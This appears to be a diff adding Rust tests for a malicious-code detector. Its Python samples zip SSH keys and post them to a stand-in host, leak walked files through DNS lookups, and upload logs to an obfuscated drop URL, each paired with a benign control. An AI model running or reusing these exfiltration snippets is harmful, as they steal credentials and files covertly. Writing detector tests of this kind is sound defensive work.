@@ -1,0 +1,82 @@
+//! Behaviour tests for the fourteenth round (what blind batch 13 showed:
+//! files packed into an archive in memory and then sent or encoded into
+//! names, and file contents sent to a destination the script hides),
+//! spelled unlike the batch, each with a control. Every malicious case is
+//! misjudged by the release at fa425f5.
+
+use super::behaviour_tests::{rules, run};
+use super::Verdict;
+
+/// Key files packed into a zip in a `BytesIO` and posted carry the keys:
+/// the data flow crosses the archive into the buffer (fa425f5: HIGH, the
+/// send was not connected to the keys).
+#[test]
+fn keys_packed_into_an_archive_in_memory_and_posted_are_secrets_sent() {
+    let bundle = "import io, os, zipfile, requests\ndef pack():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, 'w') as z:\n        for name in ('id_rsa', 'id_ed25519'):\n            z.write(os.path.expanduser('~/.ssh/' + name))\n    return out.getvalue()\nrequests.post('https://collector.example/in', data=pack())\n";
+    let a = run(bundle);
+    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let tar = bundle
+        .replace(
+            "zipfile.ZipFile(out, 'w') as z",
+            "tarfile.open(fileobj=out, mode='w:gz') as z",
+        )
+        .replace("z.write(", "z.add(")
+        .replace("import io, os, zipfile", "import io, os, tarfile");
+    assert!(rules(&run(&tar)).contains(&"MB916"));
+}
+
+/// Documents found by walking, zipped in memory and spelled into the
+/// names a script looks up leave through DNS (fa425f5: LOW).
+#[test]
+fn walked_files_zipped_in_memory_and_looked_up_as_names_are_a_covert_channel() {
+    let tunnel = "import base64, io, os, socket, zipfile\nbuf = io.BytesIO()\nzf = zipfile.ZipFile(buf, mode='w')\nfor d, _, fs in os.walk(os.path.expanduser('~/notes')):\n    for f in fs:\n        zf.write(os.path.join(d, f))\nzf.close()\ntext = base64.b32encode(buf.getvalue()).decode().strip('=')\nfor i in range(0, len(text), 60):\n    socket.gethostbyname(text[i:i + 60] + '.t.example.net')\n";
+    let a = run(tunnel);
+    assert!(rules(&a).contains(&"MB948"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// A backup zipped in memory and written to a local file sends nothing.
+#[test]
+fn an_archive_in_memory_kept_on_disk_is_no_exfiltration() {
+    let backup = "import io, os, zipfile\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    for d, _, fs in os.walk(os.path.expanduser('~/notes')):\n        for f in fs:\n            z.write(os.path.join(d, f))\nwith open('/tmp/notes.zip', 'wb') as out:\n    out.write(buf.getvalue())\n";
+    let a = run(backup);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+/// File contents sent to a URL the script decodes from base64 before use,
+/// through a request object and a parameter's default (fa425f5: LOW).
+#[test]
+fn file_contents_sent_to_a_decoded_host_are_a_hidden_upload() {
+    let upload = "import base64, glob, urllib.request\nHOOK = base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()\ndef push(blob, to=HOOK):\n    req = urllib.request.Request(to, data=blob, method='PUT')\n    urllib.request.urlopen(req)\nfor p in glob.glob('/var/log/*.log'):\n    with open(p, 'rb') as fh:\n        push(fh.read())\n";
+    let a = run(upload);
+    assert!(rules(&a).contains(&"MB960"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let reversed = upload.replace(
+        "base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()",
+        "'p/elpmaxe.xob-pord.pu//:ptth'[::-1]",
+    );
+    assert!(rules(&run(&reversed)).contains(&"MB960"));
+    let hex = upload.replace(
+        "base64.b64decode('aHR0cDovL3VwLmRyb3AtYm94LmV4YW1wbGUvcA==').decode()",
+        "bytes.fromhex('687474703a2f2f75702e6578616d706c652f70').decode()",
+    );
+    assert!(rules(&run(&hex)).contains(&"MB960"));
+}
+
+/// The same upload to a host written in the script, or to one the user
+/// gives, hides nothing.
+#[test]
+fn file_contents_sent_to_a_named_or_given_host_are_no_hidden_upload() {
+    let named = "import glob, urllib.request\nHOOK = 'https://logs.example.com/p'\ndef push(blob, to=HOOK):\n    req = urllib.request.Request(to, data=blob, method='PUT')\n    urllib.request.urlopen(req)\nfor p in glob.glob('/var/log/*.log'):\n    with open(p, 'rb') as fh:\n        push(fh.read())\n";
+    let a = run(named);
+    assert!(!rules(&a).contains(&"MB960"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High);
+    let given = named.replace("'https://logs.example.com/p'", "__import__('sys').argv[1]");
+    assert!(!rules(&run(&given)).contains(&"MB960"));
+    let joined = named.replace(
+        "HOOK = 'https://logs.example.com/p'",
+        "BASE = 'logs.example.com'\nHOOK = 'https://' + BASE + '/p'",
+    );
+    assert!(!rules(&run(&joined)).contains(&"MB960"));
+}
